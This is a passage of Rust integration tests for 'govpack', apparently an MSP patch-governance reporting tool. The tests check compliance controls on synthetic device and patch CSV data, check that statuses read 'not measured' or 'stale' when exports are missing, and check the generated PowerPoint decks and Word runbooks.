    assert_eq!(
        control_rows(&bundle, "root-cause-before-retry", 3),
        (
            strings(&["d4", "d1", "d3", "d2", "d1", "d5"]),
            strings(&["d4", "d3", "d2", "d1"])
        )
    );
    assert_eq!(
        register_result(&lake, "C9"),
        (6.0, 4.0, "exceptions_found".into())
    );
}

/// d1-d3 in use and d4 excluded, with `rows` as their patch state on 31 October (and `older` on
/// the 20th).
fn alpha_patch_state(dir: &Path, rows: &str, older: &str) -> std::path::PathBuf {
    let data = dir.join("data");
    std::fs::create_dir_all(&data).unwrap();
    std::fs::write(data.join("tenants.csv"), "tenant_id,tenant_name\na,Alpha\n").unwrap();
    std::fs::write(
        data.join("devices.csv"),
        "snapshot_date,tenant_id,device_id,hostname,device_class,track,excluded,last_seen_utc\n\
         2026-10-31,a,d1,PC1,workstation,daytime,false,2026-10-31T01:00:00Z\n\
         2026-10-31,a,d2,PC2,workstation,daytime,false,2026-10-31T01:00:00Z\n\
         2026-10-31,a,d3,PC3,workstation,overnight,false,2026-10-31T01:00:00Z\n\
         2026-10-31,a,d4,PC4,workstation,daytime,true,2026-10-31T01:00:00Z\n",
    )
    .unwrap();
    let header =
        "snapshot_date,tenant_id,device_id,patch_id,classification,severity,release_date,approval,state\n";
    let older: String = older
        .lines()
        .map(|l| format!("2026-10-20,{}\n", l.trim()))
        .collect();
    let current: String = rows
        .lines()
        .map(|l| format!("2026-10-31,{}\n", l.trim()))
        .collect();
    std::fs::write(data.join("patch_status.csv"), format!("{header}{older}{current}")).unwrap();
    data
}

#[test]
fn control_c10_finds_drivers_approved_without_an_exception() {
    let dir = TempDir::new().unwrap();
    let data = alpha_patch_state(
        dir.path(),
        "a,d1,DRV1,driver,unspecified,2026-10-01,declined,missing
         a,d1,DRV2,driver,unspecified,2026-10-01,approved,installed
         a,d2,DRV1,driver,unspecified,2026-10-01,approved,missing
         a,d3,DRV1,driver,unspecified,2026-10-01,approved,installed
         a,d3,DRV4,driver,unspecified,2026-10-01,approved,installed
         a,d3,KB1,security,critical,2026-10-01,approved,installed
         a,d4,DRV1,driver,unspecified,2026-10-01,approved,installed",
        // Approved on the 20th, gone from d1's current snapshot: not tested.
        "a,d1,DRV9,driver,unspecified,2026-10-01,approved,installed",
    );
    // d3 DRV1 has its own exception and DRV4 one for every device; d1 DRV2's expired on the 15th.
    std::fs::write(
        data.join("exceptions.csv"),
        "tenant_id,device_id,patch_id,reason,approved_by,approved_utc,expires_utc\n\
         a,d3,DRV1,Vendor GPU driver needed for CAD,CAB,2026-10-01T00:00:00Z,\n\
         a,,DRV4,Dock firmware for every laptop,CAB,2026-10-01T00:00:00Z,\n\
         a,d1,DRV2,Trial,CAB,2026-10-01T00:00:00Z,2026-10-15T00:00:00Z\n",
    )
    .unwrap();
    let (lake, bundle) = october_bundle(dir.path(), data);
    let (population, exceptions) = control_rows(&bundle, "drivers-declined", 4);
    assert_eq!(
        (population, exceptions),
        (
            strings(&["DRV1", "DRV2", "DRV1", "DRV1", "DRV4"]),
            strings(&["DRV2", "DRV1"])
        )
    );
    assert_eq!(
        control_rows(&bundle, "drivers-declined", 3).1,
        strings(&["d1", "d2"])
    );
    assert_eq!(
        register_result(&lake, "C10"),
        (5.0, 2.0, "exceptions_found".into())
    );
}

#[test]
fn control_c11_finds_updates_pending_review_longer_than_review_days() {
    let dir = TempDir::new().unwrap();
    // As of 31 October, review_days 7: released on the 24th is 7 days (in time), the 23rd is 8.
    let data = alpha_patch_state(
        dir.path(),
        "a,d1,APP1,other,unspecified,2026-10-24,pending_review,missing
         a,d1,APP2,other,unspecified,2026-10-23,pending_review,missing
         a,d2,APP1,other,unspecified,,pending_review,missing
         a,d2,APP3,other,unspecified,2026-10-01,approved,installed
         a,d3,APP4,other,unspecified,2026-11-02,pending_review,missing
         a,d4,APP2,other,unspecified,2026-10-23,pending_review,missing",
        "",
    );
    let (lake, bundle) = october_bundle(dir.path(), data);
    let device_and_patch = |part: &str| -> Vec<String> {
        bundle_csv(&bundle, &format!("manual-review-{part}.csv"))
            .iter()
            .map(|r| format!("{} {}", r[3], r[4]))
            .collect()
    };
    assert_eq!(
        device_and_patch("population"),
        strings(&["d1 APP1", "d1 APP2", "d2 APP1", "d3 APP4"])
    );
    // An unknown release date is no evidence of a timely review.
    assert_eq!(device_and_patch("exceptions"), strings(&["d1 APP2", "d2 APP1"]));
    assert_eq!(
        register_result(&lake, "C11"),
        (4.0, 2.0, "exceptions_found".into())
    );
}

#[test]
fn control_c12_finds_daytime_workstations_still_waiting_for_a_reboot_after_three_days() {
    let dir = TempDir::new().unwrap();
    let data = dir.path().join("data");
    std::fs::create_dir_all(&data).unwrap();
    std::fs::write(data.join("tenants.csv"), "tenant_id,tenant_name\na,Alpha\n").unwrap();
    std::fs::write(
        data.join("devices.csv"),
        "snapshot_date,tenant_id,device_id,hostname,device_class,track,last_seen_utc\n\
         2026-10-31,a,d1,PC1,workstation,daytime,2026-10-31T01:00:00Z\n\
         2026-10-31,a,d2,PC2,workstation,daytime,2026-10-31T01:00:00Z\n\
         2026-10-31,a,d3,PC3,workstation,overnight,2026-10-31T01:00:00Z\n\
         2026-10-31,a,d5,SRV5,server,daytime,2026-10-31T01:00:00Z\n\
         2026-10-31,a,d6,PC6,workstation,daytime,2026-10-31T01:00:00Z\n\
         2026-10-31,a,d7,PC7,workstation,daytime,2026-10-31T01:00:00Z\n",
    )
    .unwrap();
    // As of the 31st with daytime_reboot_days 3, the snapshot that counts is the latest on or
    // before the 28th. d1 KB1 already waited then; d2 only from the 29th; d6 has no snapshot on
    // the 28th, and on the 27th KB1 waited. KB2 is optional (not required), d7's KB1 is under an
    // exception, d3 is on the overnight track and d5 is a server.
    std::fs::write(
        data.join("patch_status.csv"),
        "snapshot_date,tenant_id,device_id,patch_id,classification,severity,release_date,approval,state\n\
         2026-10-28,a,d1,KB1,security,critical,2026-10-14,approved,pending_reboot\n\
         2026-10-31,a,d1,KB1,security,critical,2026-10-14,approved,pending_reboot\n\
         2026-10-31,a,d1,KB3,security,critical,2026-10-14,approved,pending_reboot\n\
         2026-10-31,a,d1,KB2,optional,unspecified,2026-10-14,approved,pending_reboot\n\
         2026-10-28,a,d2,KB1,security,critical,2026-10-14,approved,missing\n\
         2026-10-29,a,d2,KB1,security,critical,2026-10-14,approved,pending_reboot\n\
         2026-10-31,a,d2,KB1,security,critical,2026-10-14,approved,pending_reboot\n\
         2026-10-28,a,d3,KB1,security,critical,2026-10-14,approved,pending_reboot\n\
         2026-10-31,a,d3,KB1,security,critical,2026-10-14,approved,pending_reboot\n\
         2026-10-28,a,d5,KB1,security,critical,2026-10-14,approved,pending_reboot\n\
         2026-10-31,a,d5,KB1,security,critical,2026-10-14,approved,pending_reboot\n\
         2026-10-27,a,d6,KB1,security,critical,2026-10-14,approved,pending_reboot\n\
         2026-10-31,a,d6,KB1,security,critical,2026-10-14,approved,pending_reboot\n\
         2026-10-28,a,d7,KB1,security,critical,2026-10-14,approved,pending_reboot\n\
         2026-10-31,a,d7,KB1,security,critical,2026-10-14,approved,pending_reboot\n",
    )
    .unwrap();
    std::fs::write(
        data.join("exceptions.csv"),
        "tenant_id,device_id,patch_id,reason,approved_by,approved_utc,expires_utc\n\
         a,d7,KB1,Kiosk rebooted by the client,CAB,2026-10-01T00:00:00Z,\n",
    )
    .unwrap();
    let (lake, bundle) = october_bundle(dir.path(), data);
    assert_eq!(
        control_rows(&bundle, "daytime-reboot", 3),
        (strings(&["d1", "d2", "d6"]), strings(&["d1", "d6"]))
    );
    // d1 waits for KB1 and KB3; only KB1 was already waiting three days before.
    let population = bundle_csv(&bundle, "daytime-reboot-population.csv");
    assert_eq!(population[0][4], "KB1, KB3");
    let exceptions = bundle_csv(&bundle, "daytime-reboot-exceptions.csv");
    assert_eq!(
        (exceptions[0][4].as_str(), exceptions[0][5].as_str()),
        ("KB1", "2026-10-28")
    );
    assert_eq!(exceptions[1][5], "2026-10-27");
    assert_eq!(
        register_result(&lake, "C12"),
        (3.0, 2.0, "exceptions_found".into())
    );
}

#[test]
fn control_c13_finds_closed_emergency_changes_not_verified() {
    let dir = TempDir::new().unwrap();
    let data = alpha_exports(
        dir.path(),
        "2026-10-31,a,d1,PC1,workstation,2026-10-31T01:00:00Z\n",
    );
    // c1-c3 are emergency changes closed in October; c4 is normal, c5 closed in September and c6
    // is still in progress.
    std::fs::write(
        data.join("changes.csv"),
        "change_id,tenant_id,title,change_type,risk,created_utc,actual_end_utc,outcome,post_change_verified\n\
         c1,a,Out-of-band fix,emergency,high,2026-10-04T00:00:00Z,2026-10-05T00:00:00Z,successful,true\n\
         c2,a,Firewall rule,emergency,high,2026-10-05T00:00:00Z,2026-10-06T00:00:00Z,failed,false\n\
         c3,a,Hotfix rollback,emergency,medium,2026-10-06T00:00:00Z,2026-10-07T00:00:00Z,rolled_back,\n\
         c4,a,Printer driver,normal,low,2026-10-06T00:00:00Z,2026-10-07T00:00:00Z,successful,false\n\
         c5,a,Zero-day patch,emergency,high,2026-09-29T00:00:00Z,2026-09-30T00:00:00Z,successful,false\n\
         c6,a,DNS change,emergency,high,2026-10-20T00:00:00Z,,in_progress,false\n",
    )
    .unwrap();
    let (lake, bundle) = october_bundle(dir.path(), data);
    assert_eq!(
        control_rows(&bundle, "emergency-change-review", 2),
        (strings(&["c1", "c2", "c3"]), strings(&["c2", "c3"]))
    );
    assert_eq!(
        register_result(&lake, "C13"),
        (3.0, 2.0, "exceptions_found".into())
    );
}

#[test]
fn a_period_computed_before_the_workflow_controls_existed_is_computed_again_before_its_pack() {
    let dir = TempDir::new().unwrap();
    sample_lake(dir.path());
    // As an earlier govpack left it: no C13 output for October.
    std::fs::remove_dir_all(dir.path().join("lake/kpi/emergency_reviews/period=2026-10")).unwrap();
    let out = govpack_in(dir.path(), &["report", "--period", "2026-10", "--out", "packs"]);
    assert_eq!(out.status.code(), Some(2));
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert!(
        stderr.contains("emergency_reviews") && stderr.contains("govpack kpi --period 2026-10"),
        "{stderr}"
    );
    assert!(!dir.path().join("packs").exists(), "a half pack was written");
    assert!(
        govpack_in(dir.path(), &["kpi", "--period", "2026-10"])
            .status
            .success()
    );
    let out = govpack_in(dir.path(), &["report", "--period", "2026-10", "--out", "packs"]);
    assert!(out.status.success(), "{}", String::from_utf8_lossy(&out.stderr));
}

// --- statuses that tell the truth when data is missing or stale (issue 24) --------------------

/// Page `n`'s text of a PDF, its words joined by single spaces.
fn pdf_page_text(path: &Path, pages: &[u32]) -> String {
    let pdf = lopdf::Document::load(path).unwrap();
    pdf.extract_text(pages)
        .unwrap()
        .split_whitespace()
        .collect::<Vec<_>>()
        .join(" ")
}

fn all_pages(path: &Path) -> Vec<u32> {
    lopdf::Document::load(path)
        .unwrap()
        .get_pages()
        .keys()
        .copied()
        .collect()
}

#[test]
fn a_client_that_sends_only_summaries_reads_not_measured_where_nothing_was_measured() {
    // The sample's Cedar Valley Family Clinic sends per-device summaries: no patch by patch state,
    // no patch history. Nothing about its patches was measured, so nothing about them is "met".
    let dir = TempDir::new().unwrap();
    let lake = sample_lake(dir.path());
    let cedar = "29683534";
    let session = reports::session(&lake, Some(cedar)).unwrap();
    let bundle = reports::bundle::write(
        &session,
        october(),
        cedar,
        dir.path(),
        None,
        &reports::Brand::default(),
    )
    .unwrap();
    let brief = bundle.join("proof-brief.pdf");
    let page_one = pdf_page_text(&brief, &[1]);
    for expected in [
        "Not measured for Cedar Valley Family Clinic: no RMM per-patch status export",
        "Devices with an overdue patch n/a n/a n/a Not measured",
        "Devices past a KEV deadline n/a n/a n/a Not measured",
    ] {
        assert!(
            page_one.contains(expected),
            "`{expected}` not on page 1: {page_one}"
        );
    }
    assert!(
        !page_one
            .contains("No chronic device, overdue patch or open failure episode at the end of the period"),
        "{page_one}"
    );
    let text = pdf_page_text(&brief, &all_pages(&brief));
    assert!(!text.contains("No device in scope is missing"), "{text}");
    assert!(
        text.contains("Exposure to known-exploited vulnerabilities is unknown here, not zero"),
        "{text}"
    );
    // The assessment objectives that count patches and failures were not tested for it.
    let objectives = text.split("3.14.1[f]").nth(1).unwrap_or_default();
    assert!(objectives.contains("not tested"), "{text}");
    assert!(!objectives.contains("met: 0"), "{text}");
    // run.json: the control tests over patches it never sent are not tested, never a pass.
    let run: serde_json::Value =
        serde_json::from_str(&std::fs::read_to_string(bundle.join("run.json")).unwrap()).unwrap();
    let result = |control: &str| {
        run["controls"]
            .as_array()
            .unwrap()
            .iter()
            .find(|c| c["control"] == control)
            .unwrap_or_else(|| panic!("no {control} in {run}"))
            .clone()
    };
    for control in ["overdue-patches", "failed-deployment-ticket", "drivers-declined"] {
        let c = result(control);
        assert_eq!(c["result"], "not_tested", "{c}");
        assert!(c["note"].as_str().unwrap_or_default().contains("no RMM"), "{c}");
    }
    // Its compliance is measured from the summaries: tested.
    assert_ne!(result("patch-compliance")["result"], "not_tested");
}

#[test]
fn a_client_whose_rmm_exports_stopped_says_so_on_page_one_and_in_the_league_table() {
    // Harbor Freight's RMM exports stop after 12 October; its PSA goes on.
    let dir = TempDir::new().unwrap();
    let data = dir.path().join("data");
    std::fs::create_dir_all(&data).unwrap();
    let sample = Path::new(env!("CARGO_MANIFEST_DIR")).join("sample_data");
    for entry in std::fs::read_dir(&sample).unwrap() {
        let path = entry.unwrap().path();
        if !path.is_file() {
            continue;
        }
        let name = path.file_name().unwrap().to_string_lossy().to_string();
        let text = std::fs::read_to_string(&path).unwrap();
        let kept: String = if name == "devices.csv" || name == "patch_status.csv" {
            text.lines()
                .filter(|l| !(l.contains(",29683517,") && l.get(..10).is_some_and(|day| day > "2026-10-12")))
                .map(|l| format!("{l}\n"))
                .collect()
        } else {
            text
        };
        std::fs::write(data.join(&name), kept).unwrap();
    }
    let lake = Lake::open(&dir.path().join("lake")).unwrap();
    ingest::ingest(&Config::default(), &lake, &[data]).unwrap();
    for month in [9, 10] {
        kpi::compute(&Config::default(), &lake, Period::month(2026, month).unwrap()).unwrap();
    }
    // The portfolio's page 1 names it before any figure.
    let session = reports::session(&lake, None).unwrap();
    let path = dir.path().join("portfolio.pdf");
    reports::proof_brief::write(
        &session,
        october(),
        "portfolio",
        None,
        &reports::Brand::default(),
        &path,
    )
    .unwrap();
    let page_one = pdf_page_text(&path, &[1]);
    assert!(
        page_one.contains("No RMM export received lately from: Harbor Freight Logistics (since 2026-10-12)"),
        "{page_one}"
    );
    let text = pdf_page_text(&path, &all_pages(&path));
    assert!(
        text.contains("Stale: exports stopped (no RMM export since 2026-10-12)"),
        "the league table: {text}"
    );
    // Its own brief says so first, and its figures are not judged.
    let session = reports::session(&lake, Some("29683517")).unwrap();
    let path = dir.path().join("harbor.pdf");
    reports::proof_brief::write(
        &session,
        october(),
        "29683517",
        None,
        &reports::Brand::default(),
        &path,
    )
    .unwrap();
    let page_one = pdf_page_text(&path, &[1]);
    assert!(page_one.contains("No RMM export since 2026-10-12"), "{page_one}");
    assert!(page_one.contains("Patch compliance (devices)"), "{page_one}");
    // Its controls that found nothing in that export are named as not judged, not passed over.
    let summary_pages = pdf_page_text(&path, &[1, 2]);
    assert!(
        summary_pages.contains("not judged, exports stopped (no RMM export since 2026-10-12)"),
        "{summary_pages}"
    );
    // The figures from its RMM are not judged (its PSA's still are).
    assert!(
        page_one.contains("Patch compliance (devices) 0.0% (0 of 16) 93.8% 100.0% Stale: exports stopped"),
        "stale figures are not judged: {page_one}"
    );
    // Its compliance fell because its devices went unseen, not because patching got worse.
    assert!(
        !page_one.contains("Patch compliance (devices): "),
        "not a move: {page_one}"
    );
    // The workbook's Clients sheet carries the note.
    let mut book = workbook(&lake, None, &dir.path().join("book.xlsx"));
    let clients = cells(&mut book, "Clients");
    let harbor = clients
        .iter()
        .find(|r| r[0] == Data::String("Harbor Freight Logistics".into()))
        .unwrap();
    assert_eq!(harbor[9], Data::String("stale".into()));
    assert_eq!(harbor[10], Data::String("no RMM export since 2026-10-12".into()));
    // In its own pack, no control passes on its last export: a test that found nothing there is
    // stale, one that found exceptions keeps them.
    let mut book = workbook(&lake, Some("29683517"), &dir.path().join("harbor.xlsx"));
    let register = cells(&mut book, "Control register");
    let on_stale_data: Vec<&Vec<Data>> = register
        .iter()
        .filter(|r| r[10] == Data::String("no RMM export since 2026-10-12".into()))
        .collect();
    assert!(on_stale_data.len() >= 5, "{register:?}");
    for r in &on_stale_data {
        assert!(
            [
                Data::String("stale".into()),
                Data::String("exceptions_found".into())
            ]
            .contains(&r[9]),
            "{r:?}"
        );
    }
    assert!(
        on_stale_data.iter().any(|r| r[9] == Data::String("stale".into())),
        "{register:?}"
    );
}

#[test]
fn the_weekly_review_and_the_breach_rules_are_claimed_only_as_far_as_the_run_ledger_shows() {
    // October 2026 runs Thursday 1 to Saturday 31: its weeks start on Mondays 28 September, 5,
    // 12, 19 and 26 October. Weekly runs on 5 and 19 October; daily runs on six days.
    let dir = TempDir::new().unwrap();
    let data = alpha_workstations(dir.path(), 2);
    let lake = Lake::open(&dir.path().join("lake")).unwrap();
    ingest::ingest(&Config::default(), &lake, &[data]).unwrap();
    let day = |d: u32| chrono::NaiveDate::from_ymd_opt(2026, 10, d).unwrap();
    let runs = [
        ("weekly", 5),
        ("weekly", 19),
        ("daily", 6),
        ("daily", 7),
        ("daily", 8),
        ("daily", 20),
    ]
    .into_iter()
    .map(|(job, d)| (job, day(d), "succeeded"))
    // A run that failed evaluated nothing.
    .chain([("daily", day(21), "failed"), ("weekly", day(26), "failed")]);
    for (job, as_of, status) in runs {
        govpack::operations::ledger::record_run(
            &lake,
            &govpack::operations::ledger::RunRecord {
                run_id: format!("{job}-{as_of}"),
                job: job.into(),
                as_of,
                started_utc: chrono::Utc::now(),
                status: status.into(),
                host: "test".into(),
                ..Default::default()
            },
        )
        .unwrap();
    }
    kpi::compute(&Config::default(), &lake, Period::month(2026, 10).unwrap()).unwrap();
    let mut book = workbook(&lake, None, &dir.path().join("book.xlsx"));
    let register = cells(&mut book, "Control register");
    let c4 = register
        .iter()
        .find(|r| r[0] == Data::String("C4".into()))
        .unwrap();
    assert_eq!(c4[6], Data::String("weekly-review".into()));
    // Five weeks; those of 28 September, 12 and 26 October had no weekly run that finished.
    assert_eq!(
        (&c4[7], &c4[8], &c4[9]),
        (
            &Data::Float(5.0),
            &Data::Float(3.0),
            &Data::String("exceptions_found".into())
        )
    );
    // C2 is evidenced by hand: no pass or fail.
    let c2 = register
        .iter()
        .find(|r| r[0] == Data::String("C2".into()))
        .unwrap();
    assert_eq!(
        (&c2[7], &c2[9]),
        (&Data::Empty, &Data::String("manual_evidence".into()))
    );
    // Every framework code shown is explained once.
    let frameworks = cells(&mut book, "Framework references");
    for code in ["PSF D1", "PAI-8 C4", "SOC 2 CC7.5", "NIST SP 800-171 3.4.3"] {
        assert_eq!(
            frameworks
                .iter()
                .filter(|r| r[0] == Data::String(code.into()))
                .count(),
            1,
            "{code}"
        );
    }
    // 3.14.1[c] claims the breach rules were evaluated on the days a daily or weekly run finished:
    // 5, 6, 7, 8, 19 and 20 October, of 31.
    let objectives = cells(&mut book, "Assessment objectives");
    let c = objectives
        .iter()
        .find(|r| r[0] == Data::String("3.14.1[c]".into()))
        .unwrap();
    assert!(
        c[2].to_string()
            .contains("the run ledger shows them evaluated on 6 of the period's 31 day(s) to as-of (2026-10-05 to 2026-10-20)"),
        "{}",
        c[2]
    );
}

/// The text of every `<a:t>` (or `<w:t>`) of an XML part, joined by spaces.
fn texts_of(xml: &[u8]) -> String {
    use quick_xml::events::Event;
    let mut reader = quick_xml::Reader::from_reader(xml);
    let (mut out, mut text, mut inside) = (Vec::new(), String::new(), false);
    loop {
        match reader.read_event().unwrap() {
            Event::Start(e) => inside = e.local_name().as_ref() == "t",
            Event::Text(t) if inside => text.push_str(&t.xml10_content()),
            // quick-xml hands an entity (`&apos;`) over apart from the text around it.
            Event::GeneralRef(r) if inside => match r.resolve_char_ref().unwrap() {
                Some(c) => text.push(c),
                None => text.push_str(
                    quick_xml::escape::resolve_predefined_entity(&r.xml10_content()).unwrap_or("?"),
                ),
            },
            Event::End(_) => {
                if inside {
                    out.push(std::mem::take(&mut text));
                }
                inside = false;
            }
            Event::Eof => break,
            _ => {}
        }
    }
    out.join(" ")
}

/// The evidence bundle of a period for the portfolio or a tenant, unsigned, written under `out`.
fn bundle_of(
    lake: &Lake,
    period: Period,
    tenant: Option<&str>,
    out: &Path,
    brand: &reports::Brand,
) -> std::path::PathBuf {
    let session = reports::session(lake, tenant).unwrap();
    reports::bundle::write(&session, period, tenant.unwrap_or("portfolio"), out, None, brand).unwrap()
}

fn deck_of(lake: &Lake, tenant: Option<&str>, out: &Path, brand: &reports::Brand) -> std::path::PathBuf {
    bundle_of(lake, october(), tenant, out, brand).join(reports::bundle::DECK)
}

#[test]
fn the_deck_has_eight_slides_with_notes_the_summarys_figures_and_charts_whose_data_is_the_kpi_history() {
    let dir = TempDir::new().unwrap();
    let lake = sample_lake(dir.path());
    let deck = deck_of(&lake, None, dir.path(), &reports::Brand::default());
    let parts = package_parts(&deck);
    let slide = |n: usize| texts_of(&parts[&format!("ppt/slides/slide{n}.xml")]);
    for n in 1..=8 {
        let notes = texts_of(&parts[&format!("ppt/notesSlides/notesSlide{n}.xml")]);
        assert!(
            notes.len() > 100,
            "slide {n} has notes that define its figures: {notes:?}"
        );
    }
    assert!(!parts.contains_key("ppt/slides/slide9.xml"));
    assert!(
        slide(1).contains("All clients") && slide(1).contains("October 2026"),
        "{}",
        slide(1)
    );

    // The scorecard's figures are kpi_summary's, in the brief's format.
    let conn = reports::session(&lake, None).unwrap();
    let value = |kpi: &str| -> f64 {
        conn.query_row(
            "select value from kpi_summary where period_start = date '2026-10-01' and kpi_id = ? \
             and tenant_id is null and policy_tier is null and device_class is null and age_bucket is null",
            [kpi],
            |r| r.get(0),
        )
        .unwrap()
    };
    let scorecard = slide(2);
    assert!(
        scorecard.contains(&format!("{:.1}%", value("patch_compliance_rate") * 100.0)),
        "{scorecard}"
    );
    // A rate over fewer than 100 devices carries its counts.
    assert!(scorecard.contains("84.6% (44 of 52)"), "{scorecard}");
    assert!(
        scorecard.contains(&format!("{:.1} h", value("mttr_hours_mean"))),
        "{scorecard}"
    );
    // Plain words for statuses, never snake_case.
    assert!(
        !scorecard.contains("not_improving") && !scorecard.contains("no_baseline"),
        "{scorecard}"
    );
    // What the figures rest on comes first: the summary-only client's missing per-patch export.
    assert!(
        scorecard
            .find("Not measured (no RMM per-patch status export)")
            .unwrap()
            < scorecard.find("Patch compliance").unwrap()
    );

    // Two native line charts, each with its data in an embedded workbook equal to the history.
    let charts: Vec<&String> = parts
        .keys()
        .filter(|p| p.starts_with("ppt/charts/chart"))
        .collect();
    assert_eq!(charts.len(), 2, "{charts:?}");
    let chart = String::from_utf8(parts["ppt/charts/chart1.xml"].clone()).unwrap();
    assert!(
        chart.contains("<c:lineChart>") && chart.contains("<c:externalData"),
        "{chart}"
    );
    let mut book = Xlsx::new(std::io::Cursor::new(
        parts["ppt/embeddings/govpack_chart1.xlsx"].clone(),
    ))
    .unwrap();
    let range = book.worksheet_range("Sheet1").unwrap();
    let history: Vec<(String, f64)> = {
        let mut s = conn
            .prepare(
                "select strftime(period_start, '%Y-%m'), value from kpi_summary where kpi_id = 'patch_compliance_rate' \
                 and tenant_id is null and policy_tier is null and device_class is null and age_bucket is null \
                 and extract(day from period_start) = 1 and period_end = last_day(period_start) order by 1",
            )
            .unwrap();
        s.query_map([], |r| Ok((r.get(0)?, r.get(1)?)))
            .unwrap()
            .map(Result::unwrap)
            .collect()
    };
    let rows: Vec<(String, f64)> = range
        .rows()
        .skip(1)
        .map(|r| (r[0].to_string(), r[1].as_f64().unwrap()))
        .collect();
    assert_eq!(rows, history);
    assert_eq!(
        range.get_value((0, 1)).unwrap().to_string(),
        "Patch compliance (devices)"
    );
}

#[test]
fn a_deck_is_the_same_bytes_each_time_carries_the_msps_brand_and_takes_a_template_without_its_slides() {
    let dir = TempDir::new().unwrap();
    let lake = sample_lake(dir.path());
    let (a, b) = (dir.path().join("a"), dir.path().join("b"));
    std::fs::create_dir_all(&a).unwrap();
    std::fs::create_dir_all(&b).unwrap();
    let plain = deck_of(&lake, Some("29683500"), &a, &reports::Brand::default());
    let again = deck_of(&lake, Some("29683500"), &b, &reports::Brand::default());
    assert_eq!(std::fs::read(&plain).unwrap(), std::fs::read(&again).unwrap());

    // A PNG logo and the MSP's name on the title slide; the first deck as the template.
    let png = logo_png(40, 20);
    let brand = reports::Brand {
        msp_name: Some("Contoso Managed Services".into()),
        logo: Some(png.clone()),
        deck_template: Some(("earlier.pptx".into(), std::fs::read(&plain).unwrap())),
        ..Default::default()
    };
    let c = dir.path().join("c");
    std::fs::create_dir_all(&c).unwrap();
    let branded = package_parts(&deck_of(&lake, Some("29683500"), &c, &brand));
    assert!(texts_of(&branded["ppt/slides/slide1.xml"]).contains("Prepared by Contoso Managed Services"));
    assert_eq!(branded["ppt/media/govpack_image1.png"], png);
    // The template's own eight slides went: the deck has its eight, once each, and one notes master.
    let slides = branded
        .keys()
        .filter(|p| p.starts_with("ppt/slides/slide"))
        .count();
    assert_eq!(slides, 8);
    let presentation = String::from_utf8(branded["ppt/presentation.xml"].clone()).unwrap();
    assert_eq!(presentation.matches("<p:sldId ").count(), 8, "{presentation}");
    assert_eq!(
        presentation.matches("<p:notesMasterId ").count(),
        1,
        "{presentation}"
    );
    let types = String::from_utf8(branded["[Content_Types].xml"].clone()).unwrap();
    for part in branded
        .keys()
        .filter(|p| p.ends_with(".xml") && p.starts_with("ppt/slides/"))
    {
        assert!(
            types.contains(&format!("/{part}\"")),
            "{part} has its content type"
        );
    }
}

/// python-pptx opens the deck as PowerPoint would (`.ci/run` installs it and sets
/// GOVPACK_OFFICE_PYTHON to its Python).
#[test]
fn python_pptx_reads_every_slide_title_chart_and_note() {
    let Ok(python) = std::env::var("GOVPACK_OFFICE_PYTHON") else {
        eprintln!("GOVPACK_OFFICE_PYTHON is not set: python-pptx check not run (.ci/run sets it)");
        return;
    };
    let dir = TempDir::new().unwrap();
    let lake = sample_lake(dir.path());
    let deck = deck_of(&lake, Some("29683500"), dir.path(), &reports::Brand::default());
    let script = "import sys\nfrom pptx import Presentation\np = Presentation(sys.argv[1])\n\
        for s in p.slides:\n    charts = [sh.chart for sh in s.shapes if sh.has_chart]\n    \
        print(s.shapes.title.text, len(charts), [list(c.plots[0].series[0].values) for c in charts], bool(s.notes_slide.notes_text_frame.text))\n";
    let out = std::process::Command::new(python)
        .args(["-c", script])
        .arg(&deck)
        .output()
        .unwrap();
    assert!(out.status.success(), "{}", String::from_utf8_lossy(&out.stderr));
    let printed = String::from_utf8_lossy(&out.stdout);
    let lines: Vec<&str> = printed.lines().collect();
    assert_eq!(lines.len(), 8, "{printed}");
    assert!(lines.iter().all(|l| l.ends_with("True")), "{printed}");
    assert!(lines[3].starts_with("Trends 2 [["), "{printed}");
}

/// The text of a Word document's body, paragraph by paragraph (`<w:t>` runs joined).
fn runbook_text(path: &Path) -> String {
    texts_of(&package_parts(path)["word/document.xml"])
}

#[test]
fn the_bundles_runbook_states_the_settings_recorded_with_its_period_and_cites_each_key() {
    let dir = TempDir::new().unwrap();
    let lake = sample_lake(dir.path());
    // October is computed again under other settings; September keeps the defaults it was
    // computed with.
    let october_config = Config::parse(
        "[kpi]\nstale_after_days = 5\n[owners]\ncab = \"cab@contoso.example\"\n\
         [alerts.tenant_webhook_env]\n\"29683500\" = \"GOVPACK_TEAMS_NORTHWIND\"\n\"29683501\" = \"GOVPACK_TEAMS_OTHER\"\n",
    )
    .unwrap();
    kpi::compute(&october_config, &lake, Period::month(2026, 10).unwrap()).unwrap();
    let runbook_of = |period: Period, tenant: Option<&str>| {
        let out = dir
            .path()
            .join(format!("{}-{}", period.label(), tenant.unwrap_or("all")));
        std::fs::create_dir_all(&out).unwrap();
        let bundle = bundle_of(&lake, period, tenant, &out, &reports::Brand::default());
        runbook_text(&bundle.join(reports::runbook::FILE))
    };
    let october_text = runbook_of(october(), None);
    assert!(
        october_text.contains("Patch management runbook"),
        "{october_text}"
    );
    assert!(
        october_text.contains("the settings recorded with the period's KPIs (computed as of 2026-10-31)"),
        "{october_text}"
    );
    assert!(
        october_text.contains("for more than 5 days is stale"),
        "{october_text}"
    );
    assert!(october_text.contains("kpi.stale_after_days"), "{october_text}");
    assert!(october_text.contains("cab@contoso.example"), "{october_text}");
    assert!(
        october_text.contains("2 clients' alerts go to channels of their own"),
        "{october_text}"
    );
    let september_text = runbook_of(Period::month(2026, 9).unwrap(), None);
    assert!(
        september_text.contains("for more than 7 days is stale"),
        "{september_text}"
    );
    assert!(
        !september_text.contains("cab@contoso.example"),
        "{september_text}"
    );
    // A client's runbook names its own alert channel and no other client's.
    let client = runbook_of(october(), Some("29683500"));
    assert!(client.contains("GOVPACK_TEAMS_NORTHWIND"), "{client}");
    assert!(
        !client.contains("29683501") && !client.contains("GOVPACK_TEAMS_OTHER"),
        "{client}"
    );
}

#[test]
fn govpack_runbook_writes_the_settings_in_force_and_changes_when_a_setting_changes() {
    let dir = TempDir::new().unwrap();
    let write = |config: &str, out: &str| {
        std::fs::write(dir.path().join("govpack.toml"), config).unwrap();
        let output = std::process::Command::new(env!("CARGO_BIN_EXE_govpack"))
            .args(["runbook", "--out", out])
            .current_dir(dir.path())
            .output()
            .unwrap();
        assert!(
            output.status.success(),
            "{}",
            String::from_utf8_lossy(&output.stderr)
        );
        runbook_text(&dir.path().join(out))
    };
    let before = write("[kpi.grace_days]\ncritical = 14\n", "before.docx");
    let after = write(
